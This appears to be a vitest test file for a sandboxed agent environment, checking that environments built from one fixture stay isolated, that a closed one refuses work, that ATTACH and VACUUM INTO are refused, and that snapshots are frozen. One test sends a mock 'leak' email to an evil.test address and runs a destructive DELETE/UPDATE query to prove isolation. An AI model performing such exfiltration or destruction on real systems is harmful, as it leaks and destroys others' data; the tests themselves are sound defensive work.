import { describe, expect, it } from 'vitest';
import { createEnvironment } from '../../src/environment/index.ts';
import { expectError, expectOk, smallEnvironment, smallFixture } from './helpers.ts';

describe('environments built from one fixture share nothing', () => {
  it('mail, files and SQL changes in one are invisible to the other and to the fixture', async () => {
    const fixture = await smallFixture();
    const fixtureCopy = structuredClone(fixture);
    const a = await createEnvironment(fixture);
    const b = await createEnvironment(fixture);
    expectOk(a.execute({ tool: 'send_email', args: { to: 'x@evil.test', subject: 'leak', body: 'data' } }));
    expectOk(a.execute({ tool: 'write_file', args: { path: '/reports/q3.txt', content: 'overwritten' } }));
    expectOk(a.execute({ tool: 'execute_sql_query', args: { query: "DELETE FROM orders; UPDATE customers SET name = 'X'; CREATE TABLE extra (v TEXT)" } }));

    const untouched = b.snapshot();
    expect(untouched.emails).toHaveLength(3);
    expect(untouched.files['/reports/q3.txt']).toBe('Q3 revenue: 1.2M\nQ3 costs: 0.9M');
    expect(untouched.tables.orders).toHaveLength(2);
    expect(untouched.tables.customers.map((r) => r.name)).toEqual(['Acme Supplies', 'Birch & Co', 'Cobalt Ltd']);
    expect(Object.keys(untouched.tables)).toEqual(['customers', 'orders']);
    expect(fixture).toEqual(fixtureCopy);

    // The send counter and id sequence are per environment too.
    expect(expectOk(b.execute({ tool: 'send_email', args: { to: 'y@ok.test', subject: 's', body: 'b' } }))).toBe(
      'Email sent to y@ok.test (id 6, 2026-03-14T09:00:01Z).',
    );
  });

  it('closing one environment leaves the other usable, and a closed one refuses work', async () => {
    const a = await smallEnvironment();
    const b = await smallEnvironment();
    a.close();
    a.close();
    expect(() => a.execute({ tool: 'read_email', args: {} })).toThrow('environment is closed');
    expect(() => a.snapshot()).toThrow('environment is closed');
    expect(expectOk(b.execute({ tool: 'execute_sql_query', args: { query: 'SELECT count(*) AS n FROM customers' } }))).toContain('3');
  });

  it('refuses ATTACH and VACUUM INTO, through which sql.js databases of one process could reach each other', async () => {
    const a = await smallEnvironment();
    const b = await smallEnvironment();
    expect(expectError(a.execute({ tool: 'execute_sql_query', args: { query: "ATTACH DATABASE 'shared.db' AS s" } }))).toBe(
      'SQL error: ATTACH is not available: each environment has exactly one database',
    );
    expect(expectError(a.execute({ tool: 'execute_sql_query', args: { query: "/* x */ vacuum main into 'copy.db'" } }))).toMatch(
      /VACUUM INTO is not available/,
    );
    expect(expectError(b.execute({ tool: 'execute_sql_query', args: { query: "SELECT 1; attach 'shared.db' as s; CREATE TABLE s.t (x)" } }))).toBe(
      'SQL error: ATTACH is not available: each environment has exactly one database (1 earlier statement ran and stays applied)',
    );
    expect(expectError(b.execute({ tool: 'execute_sql_query', args: { query: 'SELECT * FROM s.t' } }))).toBe('SQL error: no such table: s.t');
  });
});

describe('snapshots', () => {
  it('are deep-frozen plain data carrying rowids', async () => {
    const env = await smallEnvironment();
    const snapshot = env.snapshot();
    expect(Object.isFrozen(snapshot)).toBe(true);
    expect(Object.isFrozen(snapshot.emails)).toBe(true);
    expect(Object.isFrozen(snapshot.emails[0])).toBe(true);
    expect(Object.isFrozen(snapshot.files)).toBe(true);
    expect(Object.isFrozen(snapshot.tables.customers[0])).toBe(true);
    expect(() => {
      (snapshot.files as Record<string, string>)['/x'] = 'y';
    }).toThrow(TypeError);
    expect(() => {
      (snapshot.emails as unknown[]).push({});
    }).toThrow(TypeError);
    expect(JSON.parse(JSON.stringify(snapshot))).toEqual(snapshot);
    expect(snapshot.tables.customers[2]).toEqual({ id: 7, name: 'Cobalt Ltd', email: 'finance@cobalt.test', balance: -20, notes: 'VIP', rowid: 7 });
    expect(snapshot.tables.orders.map((r) => r.rowid)).toEqual([1, 2]);
    expect(snapshot.tables.orders[1].qty).toBe(1);
  });

  it('orders emails by id, files by path and tables by name, rows by rowid', async () => {
    const env = await smallEnvironment();
    expectOk(env.execute({ tool: 'write_file', args: { path: '/a.txt', content: '' } }));
    expectOk(env.execute({ tool: 'execute_sql_query', args: { query: "INSERT INTO customers (id, name) VALUES (4, 'Delta'); CREATE TABLE aaa (x)" } }));
    const snapshot = env.snapshot();
    expect(snapshot.emails.map((e) => e.id)).toEqual([1, 2, 5]);
    expect(Object.keys(snapshot.files)).toEqual(['/a.txt', '/empty.txt', '/notes/todo.md', '/reports/q3.txt']);
    expect(Object.keys(snapshot.tables)).toEqual(['aaa', 'customers', 'orders']);
    expect(snapshot.tables.customers.map((r) => r.rowid)).toEqual([1, 2, 4, 7]);
  });

  it('taken before and after are independent of each other and of the live environment', async () => {
    const env = await smallEnvironment();
    const pre = env.snapshot();
    expectOk(env.execute({ tool: 'send_email', args: { to: 'a@b.test', subject: 's', body: 'b' } }));
    expectOk(env.execute({ tool: 'write_file', args: { path: '/notes/todo.md', content: 'changed' } }));
    expectOk(env.execute({ tool: 'execute_sql_query', args: { query: "UPDATE customers SET notes = 'changed'" } }));
    const post = env.snapshot();

    expect(pre.emails).toHaveLength(3);
    expect(pre.files['/notes/todo.md']).toBe('- call Acme\n- review "Q3" deck');
    expect(pre.tables.customers.map((r) => r.notes)).toEqual(['Pays late', null, 'VIP']);
    expect(post.emails).toHaveLength(4);
    expect(post.files['/notes/todo.md']).toBe('changed');
    expect(post.tables.customers.map((r) => r.notes)).toEqual(['changed', 'changed', 'changed']);
    // An email no call changed is the same frozen object in both (copy on write).
    expect(post.emails[0]).toBe(pre.emails[0]);
    expect(Object.isFrozen(post.emails[0])).toBe(true);
    expect(env.snapshot()).toEqual(post);
  });

  it('a WITHOUT ROWID table created by the agent is numbered by position', async () => {
    const env = await smallEnvironment();
    expectOk(
      env.execute({
        tool: 'execute_sql_query',
        args: { query: "CREATE TABLE kv (k TEXT PRIMARY KEY, v TEXT) WITHOUT ROWID; INSERT INTO kv VALUES ('b', '2'), ('a', '1')" },
      }),
    );
    expect(env.snapshot().tables.kv).toEqual([
      { k: 'a', v: '1', rowid: 1 },
      { k: 'b', v: '2', rowid: 2 },
    ]);
  });
});
